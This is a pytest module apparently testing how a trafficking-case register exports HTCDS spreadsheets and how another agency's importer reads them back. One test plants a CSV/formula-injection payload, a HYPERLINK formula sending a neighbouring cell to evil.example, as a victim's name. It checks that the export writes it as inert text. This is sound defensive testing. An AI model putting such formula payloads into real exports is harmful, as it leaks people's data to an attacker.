"""Exports round-trip: what vigie's HTCDS export (XLSX, CSV) of a register writes, the HTCDS import of another
agency reads back as the same records, field by field, for everything the mapping carries.

Not carried, by design (see vigie/exchange/exports/MAPPING.md): the case reference (the receiving agency
numbers its cases from its own counter; the source reference is kept as the imported case number and in the
title), a consent's date and method
(HTCDS has a checkbox), the participants of an event (the events sheet is keyed by case only), a border
crossing as such (it comes back as a transit event: HTCDS has no crossing), and the values HTCDS lumps
together ("restricts movement" -> Other, fishing -> section A): the expected side below says which.
"""

import datetime
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from vigie.assistance.models import AssistancePlan
from vigie.cases.models import Case, Event, Participant
from vigie.cases.selectors import CaseFilters
from vigie.cases.services import add_new_person_to_case, confirm_decision, propose_case_closure
from vigie.conftest import make_case
from vigie.exchange.exports.services import export_cases
from vigie.exchange.htcds import HtcdsImporter
from vigie.exchange.importing import run_import
from vigie.exchange.models import ImportedCase, ImportRun
from vigie.exchange.tests.exports_support import PASSWORD, add_plan, add_victim, open_archive, rich_case
from vigie.people.models import Consent

# The values HTCDS has no word for come back as the HTCDS value's vigie code.
MEANS_AFTER_HTCDS = {"restricts_movement": "other"}
FORMS_AFTER_HTCDS = {"forced_criminality": "other", "mixed": "other"}
EVENT_KIND_AFTER_HTCDS = {"harbouring": "transport"}
HTCDS_EVENT_KINDS = (Event.Kind.RECRUITMENT, Event.Kind.TRANSPORT, Event.Kind.HARBOURING, Event.Kind.EXPLOITATION)


def build_register(agency, actor, assistant) -> None:
    """A case with everything (victim, suspect, events, crossing, consent, plan), a presumed victim alone with
    a partial birthdate (her case closed by a judgment), and a case with a suspect and no victim (closed as
    transferred to another authority)."""
    case, victim, _suspect = rich_case(agency, actor)
    add_plan(case, victim, assistant)
    second = make_case(agency, actor, title="Travail domestique, Maradi", opened_on=datetime.date(2024, 6, 1))
    add_victim(second, actor, identified=False, given_names="Hadiza", family_name="Issa", date_of_birth="2008")
    third = make_case(agency, actor, title="Transport de migrants", opened_on=datetime.date(2023, 2, 2))
    add_new_person_to_case(
        actor=actor,
        case=third,
        person_values={"given_names": "Oumarou", "family_name": "Garba", "sex": "male", "date_of_birth": "1980-04-02"},
        role=Participant.Role.SUSPECT,
        suspect_role="smuggler",
    )
    for case, reason, day in (
        (second, Case.ClosureReason.JUDGMENT, datetime.date(2024, 9, 30)),
        (third, Case.ClosureReason.TRANSFERRED, datetime.date(2023, 5, 5)),
    ):
        closure = propose_case_closure(actor=actor, case=case, closure_reason=reason, closed_on=day, grounds="Done.")
        confirm_decision(actor=assistant, decision=closure)


def export_and_unpack(user, kind: str, folder: Path) -> Path:
    """The export's archive opened with its password, its files written out as a user would extract them."""
    out = io.BytesIO()
    export_cases(actor=user, kind=kind, filters=CaseFilters(), out=out, password=PASSWORD)
    files = open_archive(out.getvalue())
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder / min(files, key=len)  # the main file: the others are "<main>-events.csv"…


def participants(case: Case) -> list[tuple[Any, ...]]:
    rows = []
    for p in case.participants.select_related("person").prefetch_related("person__nationalities", "person__phones"):
        person = p.person
        rows.append(
            (
                person.given_names,
                person.family_name,
                person.sex,
                person.date_of_birth,
                sorted(c.pk for c in person.nationalities.all()),
                person.residence_country_id,
                person.residence_area,
                person.residence_locality,
                [phone.number for phone in person.phones.all()][:1],
                p.role,
                p.suspect_role,
                sorted({FORMS_AFTER_HTCDS.get(f, f) for f in p.forms_of_exploitation}),
                sorted({MEANS_AFTER_HTCDS.get(m, m) for m in p.means_of_control}),
                p.sector,
                Consent.objects.in_force().filter(person=person, purpose=Consent.Purpose.DATA_SHARING).exists(),
            )
        )
    return sorted(rows)


def _coordinates(event: Event) -> tuple[Any, ...]:
    return (event.latitude, event.longitude, event.description)


def events(case: Case) -> list[tuple[Any, ...]]:
    rows = [
        (EVENT_KIND_AFTER_HTCDS.get(e.kind, e.kind), e.date, e.country_id, e.admin_area, e.locality, *_coordinates(e))
        for e in case.events.all()
        if e.kind in HTCDS_EVENT_KINDS  # interception, rescue, return: not HTCDS events
    ]
    # A border crossing is a transit through the country entered, at its border post.
    rows += [("transport", c.date, c.to_country_id, "", c.border_post, None, None, "") for c in case.crossings.all()]
    return sorted(rows, key=repr)


def plans(case: Case) -> list[tuple[Any, ...]]:
    return sorted(
        (p.participant.person.given_names, p.goals, p.status, p.ended_on)
        for p in AssistancePlan.objects.filter(case=case).select_related("participant__person")
    )


def content(case: Case) -> dict[str, Any]:
    open_statuses = (Case.Status.OPEN, Case.Status.UNDER_INVESTIGATION, Case.Status.REFERRED_FOR_PROSECUTION)
    return {
        "status": "open" if case.status in open_statuses else case.status,
        "days": (case.opened_on, case.closed_on),
        "closure_reason": case.closure_reason,
        "participants": participants(case),
        "events": events(case),
        "plans": plans(case),
    }


@pytest.mark.parametrize("kind", ["htcds-xlsx", "htcds-csv"])
def test_an_export_imported_into_another_agency_gives_the_same_records(
    kind, tmp_path, anltp, naptip, investigator, agency_admin, outsider
):
    build_register(anltp, investigator, agency_admin)
    main_file = export_and_unpack(agency_admin, kind, tmp_path)

    run = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    assert (run.status, run.rows_rejected, run.error_summary) == (ImportRun.Status.DONE, 0, "")
    sources = {case.reference: case for case in Case.objects.filter(agency=anltp)}
    # Each case number of the file is kept with its origin's prefix: "HTCDS NE-ANLTP-2025-0001".
    keys = ImportedCase.objects.filter(agency=naptip).select_related("case")
    imported = {key.number.removeprefix("HTCDS "): key.case for key in keys if key.case is not None}
    assert sorted(imported) == sorted(sources)
    for reference, source in sources.items():
        assert content(imported[reference]) == content(source), reference
    assert all(case.reference.startswith("NG-") for case in imported.values())  # the receiving agency's numbers


def test_importing_the_same_export_again_adds_nothing(tmp_path, anltp, naptip, investigator, agency_admin, outsider):
    build_register(anltp, investigator, agency_admin)
    main_file = export_and_unpack(agency_admin, "htcds-xlsx", tmp_path)
    first = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    again = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    assert (again.rows_read, again.rows_imported, again.rows_skipped) == (first.rows_read, 0, first.rows_read)
    assert Case.objects.filter(agency=naptip).count() == 3
    assert Event.objects.filter(case__agency=naptip).count() == 3


def test_a_support_plan_of_a_person_missing_from_the_main_sheet_is_refused_with_its_sheet(
    tmp_path, anltp, naptip, investigator, agency_admin, outsider
):
    build_register(anltp, investigator, agency_admin)
    main_file = export_and_unpack(agency_admin, "htcds-csv", tmp_path)
    plans_file = main_file.with_name(f"{main_file.stem}-plans.csv")
    plans_file.write_text(plans_file.read_text(encoding="utf-8-sig").replace(",P", ",X"), encoding="utf-8")

    run = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    assert run.status == ImportRun.Status.REFUSED
    [problem] = run.rejected_rows.all()
    assert (problem.row_number, problem.column) == (2, "Support Plans: vigie_PersonKey")
    assert not Case.objects.filter(agency=naptip).exists()


@pytest.mark.parametrize("kind", ["htcds-xlsx", "htcds-csv"])
def test_a_smuggled_migrants_support_plan_stays_out_and_the_export_still_imports(
    kind, tmp_path, anltp, naptip, investigator, agency_admin, outsider
):
    """HTCDS has rows for victims only: a migrant's plan would join no row, and the whole file be refused."""
    case = make_case(anltp, investigator, title="Pirogue interceptée, Nouadhibou", opened_on=datetime.date(2024, 3, 1))
    victim = add_victim(case, investigator)
    migrant = add_new_person_to_case(
        actor=investigator,
        case=case,
        person_values={"given_names": "Moussa", "family_name": "Diallo", "sex": "male", "date_of_birth": "1999"},
        role=Participant.Role.SMUGGLED_MIGRANT,
    )
    add_plan(case, victim, agency_admin)
    add_plan(case, migrant, agency_admin)
    main_file = export_and_unpack(agency_admin, kind, tmp_path)

    run = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    assert (run.status, run.rows_rejected, run.error_summary) == (ImportRun.Status.DONE, 0, "")
    imported = Case.objects.get(pk=ImportedCase.objects.values_list("case", flat=True).get(agency=naptip))
    assert plans(imported) == [("Aïssata", "Médical : bilan de santé", "active", None)]
    assert AssistancePlan.objects.filter(participant=migrant).exists()  # in the register, not in the export


@pytest.mark.parametrize("kind", ["htcds-xlsx", "htcds-csv"])
def test_a_value_that_looks_like_a_formula_is_written_as_text_and_comes_back_as_it_was(
    kind, tmp_path, anltp, naptip, investigator, outsider
):
    # Opened in a spreadsheet, "=HYPERLINK(…)" would be a live link sending the next cell away (CSV or
    # formula injection); read back as a formula, the name would be lost. A phone number stays as it is.
    case = make_case(anltp, investigator)
    given, family = '=HYPERLINK("http://evil.example/?"&B3,"Rabi")', "-Sani"
    add_victim(case, investigator, given_names=given, family_name=family)
    main_file = export_and_unpack(investigator, kind, tmp_path)

    if kind == "htcds-xlsx":
        with zipfile.ZipFile(main_file) as workbook:
            sheets = [workbook.read(n) for n in workbook.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in sheet for sheet in sheets)
    else:
        text = main_file.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and ",'-Sani," in text
    run = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)

    assert (run.status, run.rows_imported) == (ImportRun.Status.DONE, 1)
    person = Participant.objects.get(case__agency=naptip).person
    assert (person.given_names, person.family_name) == (given, family)
